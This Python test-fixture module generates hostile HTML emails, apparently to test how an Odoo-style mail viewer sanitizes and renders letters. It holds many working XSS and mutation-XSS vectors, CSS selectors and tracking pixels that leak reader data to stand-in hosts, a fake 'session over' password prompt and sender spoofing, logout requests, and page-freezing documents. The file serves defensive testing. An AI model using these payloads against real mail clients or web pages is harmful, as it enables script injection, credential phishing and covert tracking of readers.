"""Letters of somebody who wants to run something, learn something, deceive, or stop the reader.

``%HACK%`` stands for a script that leaves traces, ``%IMG%`` for the address of pictures on a server
that notes who asks, ``%EVIL%`` for addresses there that nobody may ever ask for, ``%SPY%`` for a
host that does not exist, so that looking up its name is noticed.
"""

# ruff: noqa: E501 - what is written without a break may work only so

GREETING = "Good morning"
TITLE = "hacked"
SPY = "spy.example"
HACK = (
    f"top.{TITLE}=parent.{TITLE}=self.{TITLE}=1;"
    f"top.document.title=document.title='{TITLE}';top.name='{TITLE}';alert('{TITLE}')"
)

_RUNNING = {
    "script": """
<script>%HACK%</script><script src="%EVIL%/script.js"></script>
<script type="module">%HACK%</script><SCRIPT/x>%HACK%</SCRIPT>
<script type="speculationrules">{"prefetch": [{"urls": ["%EVIL%/speculation"]}]}</script>""",
    "event handlers": """
<body onload="%HACK%" onpageshow="%HACK%" onresize="%HACK%" onmessage="%HACK%">
<img src="x" onerror="%HACK%"><img src=x onerror=%HACK%><img/src/onerror='%HACK%'>
<b onmouseover="%HACK%" onclick="%HACK%" onfocus="%HACK%" tabindex="0" autofocus>b</b>
<details open ontoggle="%HACK%"><summary onclick="%HACK%">s</summary>d</details>
<div style="animation: x 1s" onanimationstart="%HACK%" onwheel="%HACK%">d</div>
<style>@keyframes x { from { color: red } }</style>
<marquee onstart="%HACK%">m</marquee><p contenteditable onbeforeinput="%HACK%">p</p>
<p onbeforematch="%HACK%" hidden="until-found" popover onbeforetoggle="%HACK%">p</p>""",
    "links to scripts": """
<a href="javascript:%HACK%">1</a><a href="JaVaScRiPt:%HACK%">2</a>
<a href=" &#1; javascript:%HACK%">3</a><a href="java&#9;script:%HACK%">4</a>
<a href="java&NewLine;script&colon;%HACK%">5</a><a href="vbscript:%HACK%">6</a>
<a href="javascript://example.com/%0A%HACK%">7</a>
<a href="&#x6A;avascript:%HACK%">8</a><a href="&#0000106avascript:%HACK%">9</a>
<a href="feed:javascript:%HACK%">10</a><a href="blob:javascript:%HACK%">11</a>
<area href="javascript:%HACK%"><map name="m"><area href="javascript:%HACK%" coords="0,0,9,9"></map>
<a href="file:///etc/passwd">12</a><a href="view-source:%EVIL%/source">13</a>""",
    "data links": """
<a href="data:text/html,<script>%HACK%</script>">1</a>
<a href="data:text/html;base64,PHNjcmlwdD50b3AuaGFja2VkPTE8L3NjcmlwdD4=">2</a>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='%HACK%'/>">
<img src="data:text/html,<script>%HACK%</script>">
<iframe src="data:text/html,<script>%HACK%</script>"></iframe>
<object data="data:text/html,<script>%HACK%</script>"></object>
<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InRvcC5oYWNrZWQ9MSIvPg==">""",
    "SVG": """
<svg onload="%HACK%"><script>%HACK%</script><script href="%EVIL%/svg.js"/>
<a xlink:href="javascript:%HACK%"><text y="20">link</text></a>
<image href="%EVIL%/svg.png" onerror="%HACK%"/><use href="%EVIL%/use.svg#x"/>
<use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x"/>
<animate attributeName="href" values="javascript:%HACK%" onbegin="%HACK%"/>
<set attributeName="onmouseover" to="%HACK%"/><feImage href="%EVIL%/fe.png"/>
<foreignObject><iframe src="%EVIL%/foreign"></iframe><body onload="%HACK%"/></foreignObject>
<style>@import "%EVIL%/svg.css"; * { fill: url(%EVIL%/fill.svg#x) }</style></svg>""",
    "SVG closed by HTML": """
<svg></p><style><a id="</style><img src=x onerror=%HACK%>">
<svg><style>&lt;/style&gt;&lt;img src=x onerror=%HACK%&gt;</style></svg>
<svg><desc><table><thead><style></table><img src=x onerror=%HACK%></style></svg>""",
    "MathML": """
<math href="javascript:%HACK%">click</math>
<math><maction actiontype="statusline#http://%SPY%" xlink:href="javascript:%HACK%">x</maction></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=%HACK%&gt;">
<math><annotation-xml encoding="text/html"><iframe src="%EVIL%/math"></iframe></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=%HACK%>""",
    "mutations": """
<noscript><p title="</noscript><img src=x onerror=%HACK%>"></noscript>
<template><img src=x onerror=%HACK%></template>
<div><template shadowrootmode="open"><img src="%EVIL%/shadow.png" onerror="%HACK%"></template></div>
<select><template><style><!--</style><a rel="--></style></template></select><img id=x onerror=%HACK% src>">
<title><img title="</title><img src=x onerror=%HACK%>"></title>
<textarea><img title="</textarea><img src=x onerror=%HACK%>"></textarea>
<iframe><img title="</iframe><img src=x onerror=%HACK%>"></iframe>
<noembed><img title="</noembed><img src=x onerror=%HACK%>"></noembed>
<a title="` onmouseover=%HACK%` `">a</a><p title='"><img src=x onerror=%HACK%>'>p</p>""",
    "style closed early": """
<style>p { content: "</style><img src=x onerror=%HACK%>" }</style>
<style>/* \\3c/style><img src=x onerror=%HACK%> */ p:after { content: "\\3C/style>" }</style>
<style><!--</style><img src=x onerror="%HACK%">--></style>
<p style="x: </style><img src=x onerror=%HACK%>">p</p>""",
    "comments": """
<!--[if gte IE 4]><script>%HACK%</script><![endif]-->
<!--[if !mso]><!--><img src="%EVIL%/conditional.png" onerror="%HACK%"><!--<![endif]-->
<!--><img src=x onerror=%HACK%>--><!---><img src=x onerror=%HACK%>-->
<!-- --!><img src=x onerror=%HACK%> --><![CDATA[<img src=x onerror=%HACK%>]]>
<?xml-stylesheet href="%EVIL%/pi.css"?><!DOCTYPE x [<!ENTITY y SYSTEM "%EVIL%/entity">]>&y;""",
    "scripts in styles": """
<style>@import "javascript:%HACK%"; p { behavior: url(%EVIL%/x.htc); -moz-binding: url(%EVIL%/x.xml#y);
width: expression(%HACK%); background: url("javascript:%HACK%") }</style>
<p style="width: expression(%HACK%); background: url(javascript:%HACK%)">p</p>
<link rel="stylesheet" href="javascript:%HACK%">""",
    "other character sets": """
<meta charset="utf-7">+ADw-script+AD4-%HACK%+ADw-/script+AD4-
<meta http-equiv="Content-Type" content="text/html; charset=iso-2022-jp">
\x1b(B<p title="\x1b$B"><img src=x onerror=%HACK%>\x1b(B">p</p>\x00<scr\x00ipt>%HACK%</scr\x00ipt>
﹤script﹥%HACK%﹤/script﹥ ＜script＞%HACK%＜/script＞""",
    "names of the document": """
<form name="body"><input name="firstChild"><input name="offsetHeight"></form>
<img name="documentElement"><img name="cookie"><a id="contentDocument"></a><img id="defaultView">
<a id="querySelector"></a><img name="scrollHeight"><map name="irisLetter"></map>
<div id="odoo" class="owl"></div><a id="odoo" name="loader" href="%EVIL%/clobbered">a</a>""",
}

_TELLING = {
    "pictures of all kinds": """
<img src="%IMG%/plain.png"><img srcset="%IMG%/srcset.png 1x"><img src="//%SPY%/a.png">
<img src="https://%SPY%/b.png"><img src="HTTPS:\\\\%SPY%\\c.png"><img src="ftp://%SPY%/d.png">
<picture><source srcset="%IMG%/source.png"><img src="%IMG%/picture.png"></picture>
<table background="%IMG%/table.png"><tr><td background="%IMG%/cell.png">cell</table>
<p style="background-image: url(%IMG%/style.png)">p</p>""",
    "picture that counts readers": """
<img src="%IMG%/pixel.gif?reader=ivan@example.org" width="1" height="1" alt="">
<img src="%IMG%/lazy.gif" loading="eager" fetchpriority="high" importance="high"
 referrerpolicy="unsafe-url" crossorigin="use-credentials" decoding="sync" attributionsrc>""",
    "picture of the letter that is none": """
<img src="cid:%EVIL%/cid.png"><img src="cid:../../../web/session/logout"><img src="cid:">
<img src="CID:http://%SPY%/x"><img src="/web/session/logout"><img src="//[x]/y"><img src="?x=1">
<img src="mhtml:%EVIL%/mhtml"><img src="http:%EVIL%"><img src="blob:%EVIL%/blob">
<img src="filesystem:%EVIL%/file"><img src="x-apple-data-detectors://x"><img src="#">""",
    "style sheets": """
<link rel="stylesheet" href="%EVIL%/link.css"><link rel="alternate stylesheet" href="%EVIL%/alt.css">
<style>@import "%EVIL%/import.css"; @import url(%EVIL%/import2.css); @\\69mport "%EVIL%/import3.css";
@namespace url(%EVIL%/namespace); @font-face { font-family: spy; src: url(%EVIL%/font.woff2) }
@font-face { font-family: spy2; src: url(https://%SPY%/font); unicode-range: U+0041 }
@counter-style c { system: cyclic; symbols: url(%EVIL%/symbol.png) }
@property --x { syntax: "<image>"; inherits: true; initial-value: url(%EVIL%/property.png) }
@layer a { p { background: url(%EVIL%/layer.png) } }
@supports (color: red) { p { background: url(%EVIL%/supports.png) } }
@container (min-width: 1px) { p { background: url(%EVIL%/container.png) } }
@document url(http://x) { p { background: url(%EVIL%/document.png) } }
p { font-family: spy, spy2; list-style: c }</style><p>ABC</p>""",
    "addresses in styles": """
<style>p { background: \\75rl(%EVIL%/escaped.png); list-style: url(%EVIL%/list.png);
cursor: image-set("%EVIL%/set.png" 1x), auto; content: -webkit-image-set(url(%EVIL%/wset.png) 1x);
border-image: cross-fade(url(%EVIL%/fade1.png), url(%EVIL%/fade2.png)) 1; mask: url(%EVIL%/mask.svg#m);
filter: url(%EVIL%/filter.svg#f); clip-path: url(%EVIL%/clip.svg#c); shape-outside: url(%EVIL%/s.png);
offset-path: url(%EVIL%/path.svg#p); background: image("%EVIL%/image.png"); --x: url(%EVIL%/var.png);
background: var(--x); src: url(%EVIL%/src); background: src("%EVIL%/src-function.png") }
p::before { content: url(%EVIL%/before.png) } p::marker { content: url(%EVIL%/marker.png) }
p::first-line { background: url(%EVIL%/line.png) } ::selection { background: url(%EVIL%/sel.png) }
p { background: u/**/rl(%EVIL%/comment.png); background: url(/**/%EVIL%/comment2.png) }
p { & b { background: url(%EVIL%/nested.png) } background: attr(title type(<url>)) }</style>
<p style="background: url('%EVIL%/attribute.png')" title="%EVIL%/attr.png"><b>b</b></p>""",
    "selectors that read": """
<style>a[href^="h"] { background: url(%EVIL%/starts-h.png) }
input[value^="a"] { background: url(%EVIL%/value-a.png) } a:visited { color: red; background: url(%EVIL%/v) }
html[data-blocked-images="0"] { background: url(%EVIL%/blocked.png) }
@media (min-width: 300px) { body { background: url(%EVIL%/wide.png) } }
@media (prefers-color-scheme: dark) { body { background: url(%EVIL%/dark.png) } }
@media print { body { background: url(%EVIL%/printed.png) } }
details[open] { background: url(%EVIL%/opened.png) } p:hover { background: url(%EVIL%/hover.png) }
:root:has(:target) { background: url(%EVIL%/target.png) } :focus { background: url(%EVIL%/focus.png) }
</style><a href="https://%SPY%/visited">a</a><details><summary>s</summary>d</details><p>p</p>""",
    "hints": """
<link rel="dns-prefetch" href="//dns.%SPY%"><link rel="preconnect" href="https://pre.%SPY%">
<link rel="preload" as="image" href="%EVIL%/preload.png"><link rel="prefetch" href="%EVIL%/prefetch">
<link rel="prerender" href="%EVIL%/prerender"><link rel="modulepreload" href="%EVIL%/module.js">
<link rel="icon" href="%EVIL%/icon.png"><link rel="manifest" href="%EVIL%/manifest.json">
<link rel="compression-dictionary" href="%EVIL%/dictionary"><meta name="x" content="%EVIL%">
<meta http-equiv="x-dns-prefetch-control" content="on"><meta http-equiv="Link"
content="<%EVIL%/link>; rel=preload; as=image"><meta http-equiv="Set-Cookie" content="a=b">""",
    "links whose names are looked up": """
<a href="https://reader-ivan.%SPY%/">a</a><a href="//other.%SPY%/" ping="%EVIL%/ping">b</a>
<a href="http://third.%SPY%/" target="_top" rel="opener prefetch" download>c</a>
<a href="http://fourth.%SPY%/" target="window" attributionsrc="%EVIL%/attribution">d</a>""",
    "leaving": """
<meta http-equiv="refresh" content="0;url=%EVIL%/refresh">
<META HTTP-EQUIV=Refresh CONTENT="0; %EVIL%/refresh2"><base href="%EVIL%/base/" target="_top">
<a href="page" target="_top">1</a><a href="#x" target="_parent">2</a>
<form action="%EVIL%/form" target="_top"><button autofocus>b</button></form>""",
    "base address": """
<html><head><base href="%EVIL%/base/"></head><body background="relative.png">
<p>Good morning</p><img src="relative.png"><a href="relative">a</a></body></html>""",
    "frames": """
<iframe src="%EVIL%/iframe"></iframe><iframe srcdoc="<script>%HACK%</script>"></iframe>
<iframe src="about:blank" onload="%HACK%"></iframe><object data="%EVIL%/object"></object>
<embed src="%EVIL%/embed"><portal src="%EVIL%/portal"></portal><fencedframe src="%EVIL%/f"></fencedframe>
<applet code="x" codebase="%EVIL%/applet"></applet><object classid="x"><param name="src"
value="%EVIL%/param"></object><webview src="%EVIL%/webview"></webview>""",
    "frameset": """
<html><head><title>x</title></head><frameset cols="50%,50%" onload="%HACK%">
<frame src="%EVIL%/frame1"><frame src="javascript:%HACK%"><noframes>n</noframes></frameset></html>""",
    "sound and film": """
<video src="%EVIL%/video" poster="%EVIL%/poster.png" autoplay controls onloadstart="%HACK%">
<source src="%EVIL%/source.mp4" onerror="%HACK%"><track default src="%EVIL%/track.vtt"></video>
<audio src="%EVIL%/audio" autoplay></audio><bgsound src="%EVIL%/sound"><img dynsrc="%EVIL%/dyn"
lowsrc="%EVIL%/low"><input type="image" src="%EVIL%/input.png"><isindex src="%EVIL%/isindex">""",
    "forms": """
<form action="%EVIL%/form" id="f"><input name="password" type="password" autofocus value="a"
onfocus="%HACK%"><input type="submit" formaction="javascript:%HACK%"><button form="f"
formaction="%EVIL%/button" type="submit">b</button><select onchange="%HACK%" autofocus><option>o
</select><textarea autofocus>t</textarea><keygen autofocus><label for="x">l</label>
<input type="image" formaction="%EVIL%/image"><input list="d"><datalist id="d"><option>o
</datalist><output>o</output><button popovertarget="p">p</button></form>
<form action="/web/session/logout"><input type="submit"></form><dialog open>d</dialog>""",
}

_COVERING = {
    "over the whole window": """
<div style="position: fixed; inset: 0; z-index: 2147483647; background: red">fixed</div>
<div style="position: sticky; top: -500px; z-index: 9999; background: red">sticky</div>
<div style="position: absolute; top: -3000px; left: -3000px; width: 9000px; height: 9000px;
z-index: 2147483647; background: red">absolute</div>
<style>.c { position: FIXED !important; inset: 0 } .d { pos\\69tion: fixed; top: 0 }
html, body { position: fixed !important; inset: 0; z-index: 99999; width: 300vw; height: 300vh }</style>
<p class="c">c</p><p class="d">d</p>""",
    "out of its place": """
<div style="margin: -9999px; padding: 9999px; background: red">margin</div>
<div style="transform: translate(-9999px, -9999px) scale(99); background: red">transform</div>
<div style="translate: -999px -999px; scale: 99; rotate: 45deg; background: red">translate</div>
<div style="width: 100vw; height: 100vh; margin-left: -50vw; background: red">viewport</div>
<div style="outline: 9999px solid red; box-shadow: 0 0 0 9999px red">outline</div>
<div style="zoom: 50; background: red">zoom</div><div style="float: left; left: -99px">f</div>
<p style="font-size: 3000px; line-height: 0; text-indent: -9999px">HUGE</p>
<p style="direction: rtl; unicode-bidi: bidi-override; writing-mode: vertical-rl">rtl</p>""",
    "as wide as the world": """
<div style="width: 9999999px; height: 9999999px; background: red">wide</div>
<table width="9999999" height="9999999"><tr><td nowrap>t</td></tr></table>
<img width="9999999" height="9999999" alt="a"><pre>%s</pre><hr width="9999999" size="9999999">
"""
    % ("x" * 20_000),
    "looks like Odoo": """
<style>.o_dialog, .modal, .o_main_navbar, .o_notification { display: block !important;
position: fixed; top: 0; left: 0; width: 100%; z-index: 99999; background: red }
.o_iris_toolbar, .o_iris_rows, .o_web_client, body { display: none }</style>
<div class="o_dialog modal o_web_client" role="dialog" aria-modal="true"><div class="modal-content">
Your session is over. <input type="password" name="password"><button>Log in</button></div></div>
<nav class="o_main_navbar" id="oe_main_menu_navbar"><a href="#">Menu</a></nav>
<div class="o_iris_toolbar" id="iris" role="toolbar"><button name="action_trash">Trash</button></div>
<div class="o_iris_letter_bar alert"><button class="o_iris_show_images">Show images</button></div>
<div class="o_notification_manager"><div class="o_notification">Sent</div></div>""",
    "our own marks": """
<details class="iris-quote" open><summary>Show quoted text</summary><p>From: the director</p></details>
<details><summary>Показать цитату</summary>x</details><style>
.iris-quote > summary::before { content: "Trusted sender" } .iris-letter, body > .iris-heading.iris-heading { display: none !important; opacity: 0 !important }
html::before, body::before { content: "From: director@example.org" !important; position: absolute }
:root { --x: 1 } html[data-iris-letter] { display: block }</style>
</div></body></html><html data-iris-letter data-blocked-images="0" data-text-only>
<table class="iris-heading"><tr><th>From</th><td>director@example.org</td></tr></table>
<blockquote>quoted</blockquote>""",
    "never at rest": """
<style>@keyframes grow { to { height: 9999px; transform: scale(99) } }
.g { animation: grow 0.1s infinite alternate; transition: all 0.1s; will-change: transform }
@media (min-height: 500px) { .h { height: 50px } } @media (max-height: 499px) { .h { height: 900px } }
.v { height: 120vh; min-height: 101dvh; width: 200cqw }</style>
<div class="g">g</div><div class="h">h</div><div class="v">v</div>
<marquee behavior="alternate" scrollamount="999">m</marquee><blink>b</blink>
<div style="height: calc(100% + 10px)"><div style="height: 101%">percent</div></div>
<div style="scroll-behavior: smooth; overscroll-behavior: none; touch-action: none">s</div>""",
    "unreadable letters": "".join(
        f"<p>{'Z' + ''.join(chr(0x300 + n % 0x70) for n in range(400))}</p>"
        f"<p>{mark}gnp.exe{mark}</p>"
        for mark in "\u202e\u202d\u2066\u2067\u2068\u200f\u061c\ufeff\u2028\u0000\ufffd\u1160"
    ),
}

_UNFINISHED = {
    "plaintext": f"<p>{GREETING}</p><plaintext><script>%HACK%</script></p>",
    "xmp and listing": "<xmp><img src=x onerror=%HACK%></xmp><listing><b onclick=%HACK%></listing>",
    "comment without end": f"<p>{GREETING}</p><!-- <img src=x onerror=%HACK%>",
    "attribute without end": f"<p>{GREETING}</p><a href='x' title=\"<img src=x onerror=%HACK%>",
    "style without end": f"<p>{GREETING}</p><style>p {{ background: url(%EVIL%/unfinished.png",
    "tag without end": f"<p>{GREETING}</p><img src='%EVIL%/tag.png' onerror='%HACK%' ",
    "only end tags": "</p></div></body></html></iframe></style></script><p>Good morning</p>",
}


def _nested(tag: str, depth: int) -> str:
    return f"<{tag}>" * depth + "deep" + f"</{tag}>" * depth


def _cells(rows: int, columns: int) -> str:
    row = "<tr>" + "<td style='border: 1px solid'>cell</td>" * columns + "</tr>"
    return f"<table border='1'>{row * rows}</table>"


_SENTENCE = "Letters of this length are rare, but somebody will write one. "

# The last ones are large, so that they are written when they are needed.
_HEAVY = {
    "ten thousand cells": lambda: _cells(100, 100),
    "cells that span the world": lambda: (
        "<table>" + "<tr><td colspan='100000' rowspan='65534'>x</td></tr>" * 50 + "</table>"
    ),
    "tables in tables": lambda: "<table><tr><td>" * 1_500 + "deep" + "</td></tr></table>" * 1_500,
    "ten thousand elements deep": lambda: _nested("div", 10_000),
    "ten thousand formats deep": lambda: _nested("b", 5_000) + "<font color=red>" * 5_000,
    "ten thousand quotes deep": lambda: _nested("blockquote", 10_000),
    "selectors for everything": lambda: (
        f"<style>{'div ~ div:not(p *) div > div :nth-child(2n+1) div { color: red } ' * 2_000}"
        f"</style>{'<div><div>x</div></div>' * 4_000}"
    ),
    "filters over filters": lambda: (
        "<div style='filter: blur(90px); box-shadow: 0 0 900px red; mix-blend-mode: difference;"
        " backdrop-filter: blur(90px)'>" * 150 + "slow"
    ),
    "a word of a million letters": lambda: "w" * 1_000_000,
    "five megabytes of prose": lambda: f"<p>{_SENTENCE * 8}</p>" * 10_000,
    "five megabytes of tags": lambda: "<i><u>x</u></i>" * 340_000,
}


def write_letters(address: str) -> dict[str, str]:
    """Write all letters.

    :param address: that of a server which notes who asks, without a slash at its end
    :return: subject → HTML
    """
    templates = _RUNNING | _TELLING | _COVERING | _UNFINISHED
    templates |= {name: write() for name, write in _HEAVY.items()}
    return {name: fill_in(template, address) for name, template in templates.items()}


def fill_in(template: str, address: str) -> str:
    """Write one letter with the addresses that it shall lure to."""
    html = template if GREETING in template else f"<p>{GREETING}</p>{template}"
    for name, value in (
        ("%HACK%", HACK),
        ("%IMG%", f"{address}/image"),
        ("%EVIL%", f"{address}/evil"),
        ("%SPY%", SPY),
    ):
        html = html.replace(name, value)
    return html
